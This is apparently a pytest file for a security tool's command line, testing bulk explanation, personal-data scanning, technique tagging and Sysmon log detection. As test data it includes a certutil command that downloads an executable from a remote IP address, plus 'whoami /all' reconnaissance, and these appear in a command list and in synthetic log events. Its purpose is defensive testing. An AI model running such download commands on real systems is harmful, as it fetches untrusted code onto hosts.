"""Bulk work by the command line: the verbs over texts keep tables, and all of them take an engine."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from vedette.bulk.job import read_table
from vedette.cli.main import app
from vedette.errors import UserError

COMMANDS = ["certutil -urlcache -f http://192.0.2.7/a.txt a.exe", "ls -la", "whoami /all"]


@pytest.fixture
def texts(tmp_path: Path) -> Path:
    path = tmp_path / "texts.jsonl"
    path.write_text("".join(json.dumps({"id": f"t{n}", "text": one}) + "\n" for n, one in enumerate(COMMANDS)))
    return path


def run(tmp_path: Path, *words: object) -> Any:
    return CliRunner().invoke(app, ["--home", str(tmp_path / "home"), *map(str, words)])


def test_explain_keeps_a_table(texts: Path, tmp_path: Path) -> None:
    result = run(tmp_path, "explain", "--file", texts, "--shell", "cmd", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    rows = read_table(tmp_path / "out", "explanations").to_pylist()
    assert [row["id"] for row in rows] == ["t0", "t1", "t2"]
    assert rows[0]["risk"] > rows[1]["risk"]
    alone = run(tmp_path, "explain", COMMANDS[0], "--shell", "cmd", "--json")
    assert json.loads(rows[0]["explanation"]) == json.loads(alone.stdout)


def test_guard_scan_keeps_verdicts_without_values(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in/a.txt").write_text("write to anna.schmidt@example.com today")
    (tmp_path / "in/b.txt").write_text("nothing in here")
    (tmp_path / "in/c.bin").write_bytes(b"\x7fELF" + bytes(range(32)) * 100)
    result = run(
        tmp_path, "guard", "scan", tmp_path / "in", "--scanner", "personal", "--out", tmp_path / "out", "--json"
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["n_errors"] == 1
    findings = read_table(tmp_path / "out", "findings").to_pylist()
    assert [(f["id"], f["start"], f["end"]) for f in findings] == [("a.txt", 9, 33)]
    assert [v["id"] for v in read_table(tmp_path / "out", "verdicts").to_pylist()] == ["a.txt", "b.txt"]
    assert read_table(tmp_path / "out", "errors").column("id").to_pylist() == ["c.bin"]
    assert not any(b"anna" in p.read_bytes() for p in (tmp_path / "out").rglob("*.json"))


def test_predict_keeps_what_it_would_print(texts: Path, tmp_path: Path) -> None:
    result = run(tmp_path, "forge", "predict", "technique-tagger", texts, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    rows = read_table(tmp_path / "out", "predictions").to_pylist()
    alone = json.loads(run(tmp_path, "forge", "predict", "technique-tagger", *COMMANDS, "--json").stdout)
    for row, told in zip(rows, alone["predictions"], strict=True):
        answer = json.loads(row["answer"])
        assert [one["label"] for one in answer["labels"]] == [one["label"] for one in told["labels"]]
        assert row["label"] == (told["labels"][0]["label"] if told["labels"] else None)


def test_another_version_of_the_options_is_another_job(texts: Path, tmp_path: Path) -> None:
    assert run(tmp_path, "explain", "--file", texts, "--out", tmp_path / "out").exit_code == 0
    result = run(tmp_path, "explain", "--file", texts, "--shell", "cmd", "--out", tmp_path / "out")
    assert isinstance(result.exception, UserError)
    assert "--fresh" in str(result.exception.next_step)


@pytest.mark.parametrize(
    "words",
    [
        ["explain", "whoami", "--engine", "pool:2"],
        ["guard", "scan", "x.txt", "--fresh"],
        ["forge", "predict", "technique-tagger", "x", "--near-duplicates", "0.8"],
    ],
    ids=["engine", "fresh", "near"],
)
def test_options_of_bulk_work_ask_for_out(words: list[str], tmp_path: Path) -> None:
    result = run(tmp_path, *words)
    assert isinstance(result.exception, UserError)
    assert "--out" in str(result.exception.next_step)


@pytest.mark.parametrize("engine", ["nothing", "pool:x", "pool:0", "ray://", "ray://host", "ray://u@host:1"])
def test_what_is_no_engine_is_said(engine: str, texts: Path, tmp_path: Path) -> None:
    result = run(tmp_path, "explain", "--file", texts, "--out", tmp_path / "out", "--engine", engine)
    assert isinstance(result.exception, UserError)
    assert result.exception.next_step


@pytest.mark.parametrize("verb", ["ingest", "detect", "investigate", "explain", "extract"])
def test_every_bulk_verb_takes_an_engine(verb: str) -> None:
    assert "--engine" in CliRunner().invoke(app, [verb, "--help"], env={"COLUMNS": "200"}).stdout


@pytest.mark.slow
def test_ingest_and_detect_say_the_same_by_the_pool(tmp_path: Path) -> None:
    log = tmp_path / "events.jsonl"
    events = [
        {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "UtcTime": f"2026-01-01 00:00:{n:02d}.000",
            "@timestamp": f"2026-01-01T00:00:{n:02d}Z",
            "Hostname": "host1",
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "CommandLine": "certutil -urlcache -f http://192.0.2.7/a.txt a.exe",
        }
        for n in range(30)
    ]
    log.write_text("".join(json.dumps(event) + "\n" for event in events))
    told = []
    for engine in ("local", "pool:2"):
        home = tmp_path / engine.partition(":")[0]
        result = run(home, "ingest", log, "--engine", engine, "--json")
        assert result.exit_code == 0, result.output
        found = run(home, "detect", "--engine", engine, "--json")
        assert found.exit_code == 0, found.output
        told.append([(f["title"], f["count"]) for f in json.loads(found.stdout)["findings"]])
    assert told[0] == told[1]
    assert told[0]
